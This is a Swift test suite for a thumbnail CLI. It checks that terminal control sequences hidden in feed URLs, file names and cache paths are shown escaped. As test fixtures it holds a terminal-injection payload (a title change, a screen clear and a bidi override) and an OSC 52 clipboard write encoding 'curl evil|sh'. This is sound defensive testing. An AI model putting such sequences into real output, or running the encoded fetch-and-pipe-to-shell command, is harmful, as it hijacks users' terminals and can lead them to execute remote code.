import Foundation
import TestSupport
import Testing
import ThumbnailKit

/// What feeds, servers and file names put in `thumbnailer`'s text output
/// reaches the terminal as visible escapes (`\u{1B}`), never as the control
/// sequences themselves: no clipboard write (OSC 52), no title (OSC 0), no
/// cleared screen (CSI 2J), no C1 CSI, no bidi reordering.
@Suite final class TerminalOutputTests: Sendable {
    let server: TestHTTPServer
    let temporary: TemporaryDirectory

    /// A clipboard write of `curl evil|sh`, a title, a cleared screen, a C1 CSI and a right-to-left override.
    static let clipboard = "\u{1B}]52;c;Y3VybCBldmlsfHNo\u{07}"
    static let attack = "\u{1B}]0;owned\u{07}\u{1B}[2J\u{9B}31m\u{202E}"
    /// How the two are shown.
    static let clipboardShown = #"\u{1B}]52;c;Y3VybCBldmlsfHNo\u{07}"#
    static let attackShown = #"\u{1B}]0;owned\u{07}\u{1B}[2J\u{9B}31m\u{202E}"#

    init() throws {
        server = try TestHTTPServer()
        temporary = try TemporaryDirectory()
    }

    deinit { server.stop() }

    /// The scalars in `output` a terminal would act on: C0 controls other than newline, DEL, C1 and bidi controls.
    func controls(in output: String) -> [String] {
        output.unicodeScalars.filter { scalar in
            (scalar.value < 0x20 && scalar != "\n") || (0x7F...0x9F).contains(scalar.value)
                || [0x061C, 0x200E, 0x200F, 0x2066, 0x2067, 0x2068, 0x2069].contains(scalar.value)
                || (0x202A...0x202E).contains(scalar.value)
        }.map { "U+" + String($0.value, radix: 16, uppercase: true) }
    }

    /// A JSON Feed naming `images`, served at /feed.json.
    func serveFeed(images: [String]) async throws {
        let items = images.enumerated().map { ["id": "\($0)", "title": "item \($0)", "image": $1] }
        let feed: [String: Any] = ["version": "https://jsonfeed.org/version/1.1", "title": "Crafted", "items": items]
        server.route("/feed.json", .init(body: Array(try JSONSerialization.data(withJSONObject: feed))))
    }

    @Test func warmsTextSummaryAndProgressShowCraftedURLsEscapedAndEachFailureNamesItsURLOnce() async throws {
        let valid = "jpeg-baseline-420-gradient-256x192.jpg"
        server.route("/images/\(valid)", .init(body: try Fixtures.bytes(ofTestImage: valid)))
        try await serveFeed(images: [
            "file:///etc/" + Self.clipboard,  // refused: a web feed may not point at local files
            "gopher://evil.invalid/" + Self.attack,  // refused: not http(s)
            "/images/missing.jpg",  // HTTP 404
            "/images/\(valid)",
        ])
        let arguments = ["warm", server.url("/feed.json"), "--cache-dir", temporary.path("cache")]
        let run = try await runBlocking { try ChildProcess.run(arguments, limits: .init(duration: .seconds(20))) }

        #expect(run.status == 1, "\(run.standardError)")
        let summary = run.standardOutput
        #expect(summary.contains("failed      3"), "\(summary)")
        #expect(controls(in: summary).isEmpty, "\(controls(in: summary)) in \(summary)")
        #expect(summary.contains("  file:///etc/\(Self.clipboardShown): refused: a web feed may not point at local files"),
                "\(summary)")
        #expect(summary.contains("  gopher://evil.invalid/\(Self.attackShown): refused: "), "\(summary)")
        let missing = server.url("/images/missing.jpg")
        #expect(summary.contains("  \(missing): HTTP 404"), "\(summary)")
        #expect(summary.components(separatedBy: missing).count == 2, "the URL once: \(summary)")
        // Progress goes to stderr as plain lines when it is not a terminal.
        #expect(run.standardError.contains("warm: 2/2 images"), "\(run.standardError)")
        #expect(controls(in: run.standardError).isEmpty, "\(controls(in: run.standardError))")
    }

    @Test func warmsJSONEscapesEveryControlAndReadsBackAsTheCraftedURL() async throws {
        let url = "gopher://evil.invalid/" + Self.clipboard + Self.attack + "\u{7F}\u{85}\u{2067}"
        try await serveFeed(images: [url])
        let arguments = ["warm", server.url("/feed.json"), "--cache-dir", temporary.path("cache"), "--json"]
        let run = try await runBlocking { try ChildProcess.run(arguments, limits: .init(duration: .seconds(20))) }

        #expect(run.status == 1, "\(run.standardError)")
        #expect(controls(in: run.standardOutput).isEmpty, "\(controls(in: run.standardOutput))")
        let summary = try #require(try JSONSerialization.jsonObject(with: Data(run.standardOutput.utf8)) as? [String: Any])
        let failures = try #require(summary["failures"] as? [[String: String]])
        #expect(failures.map { $0["url"] } == [url], "the JSON still says exactly what the feed said")
    }

    /// Found by `scripts/fuzz.sh xml`, whose log filled with them: for a byte the declared encoding
    /// cannot convert, libxml2 printed lines of its own ("encoding error : input conversion failed due
    /// to input error, bytes 0x81 0x00 0x81 0x3C", "I/O error : encoder error") past thumbnailer's escaping.
    @Test func aFeedInABrokenEncodingIsReportedByThumbnailerAlone() async throws {
        let feed = temporary.path("feed.rss")
        let bytes = Array(#"<?xml version="1.0" encoding="SHIFT_JIS"?><rss><channel><title>"#.utf8) + [0x81, 0x00, 0x81]
            + Array("</title></channel></rss>\n".utf8)
        try Data(bytes).write(to: URL(fileURLWithPath: feed))
        let run = try await runBlocking { try ChildProcess.run(["warm", feed, "--cache-dir", self.temporary.path("cache")]) }

        #expect(run.status == 2, "\(run.standardError)")
        let lines = run.standardError.split(separator: "\n")
        #expect(lines.count == 1 && lines.allSatisfy { $0.hasPrefix("thumbnailer: cannot read the feed") }, "\(run.standardError)")
    }

    @Test func aFeedThatCannotBeReadIsNamedEscaped() async throws {
        let feed = temporary.path("missing" + Self.attack + ".json")
        let run = try await runBlocking { try ChildProcess.run(["warm", feed, "--cache-dir", self.temporary.path("cache")]) }

        #expect(run.status == 2)
        #expect(run.standardError.hasPrefix("thumbnailer: cannot fetch the feed: "), "\(run.standardError)")
        #expect(run.standardError.contains("missing" + Self.attackShown + ".json"), "\(run.standardError)")
        #expect(controls(in: run.standardError).isEmpty, "\(controls(in: run.standardError))")
    }

    @Test func thumbsLinesShowCraftedFileNamesEscaped() async throws {
        let good = temporary.path("good" + Self.clipboard + ".jpg")
        try Data(try Fixtures.bytes(ofTestImage: "jpeg-baseline-420-gradient-256x192.jpg")).write(to: URL(fileURLWithPath: good))
        let bad = temporary.path("bad" + Self.attack + ".jpg")
        try Data("not an image".utf8).write(to: URL(fileURLWithPath: bad))

        let run = try await ChildProcess.run(["thumb", good, bad, "-o", temporary.path("out")])

        #expect(run.status == 1)
        #expect(controls(in: run.standardOutput).isEmpty && controls(in: run.standardError).isEmpty,
                "\(controls(in: run.standardOutput)) \(controls(in: run.standardError))")
        #expect(run.standardOutput.contains("good\(Self.clipboardShown).jpg -> "), "\(run.standardOutput)")
        #expect(run.standardError.contains("bad\(Self.attackShown).jpg: unsupportedFormat"), "\(run.standardError)")
    }

    @Test func cacheVerifyAndStatsShowACraftedDirectoryEscaped() async throws {
        let directory = temporary.path("cache" + Self.attack)
        let cache = try DiskCache(directory: directory)
        try cache.store([UInt8](repeating: 7, count: 5_000), forKey: "a", in: .originals)
        let files = try FileManager.default.subpathsOfDirectory(atPath: directory)
            .filter { $0.hasPrefix("originals/") && $0.split(separator: "/").last?.count == 64 }
        let victim = URL(fileURLWithPath: directory).appendingPathComponent(try #require(files.first))
        var contents = try Data(contentsOf: victim)
        contents[contents.count - 1] ^= 1
        try contents.write(to: victim)

        let verify = try await ChildProcess.run(["cache", "verify", "--cache-dir", directory])
        #expect(verify.status == 1)
        #expect(controls(in: verify.standardOutput).isEmpty, "\(controls(in: verify.standardOutput))")
        #expect(verify.standardOutput.contains("damaged: " + temporary.path("cache" + Self.attackShown) + "/originals/"),
                "\(verify.standardOutput)")

        let stats = try await ChildProcess.run(["cache", "stats", "--cache-dir", directory])
        #expect(stats.status == 0 && controls(in: stats.standardOutput).isEmpty, "\(stats.standardOutput)")
        #expect(stats.standardOutput.contains("cache " + temporary.path("cache" + Self.attackShown)), "\(stats.standardOutput)")
    }

    @Test func anUnusableCacheDirectoryIsNamedEscaped() async throws {
        let file = temporary.path("file" + Self.clipboard)
        try Data("x".utf8).write(to: URL(fileURLWithPath: file))
        let run = try await ChildProcess.run(["cache", "stats", "--cache-dir", file])

        #expect(run.status == 64)
        #expect(controls(in: run.standardError).isEmpty, "\(controls(in: run.standardError))")
        #expect(run.standardError.contains("file" + Self.clipboardShown + " is unusable"), "\(run.standardError)")
    }
}
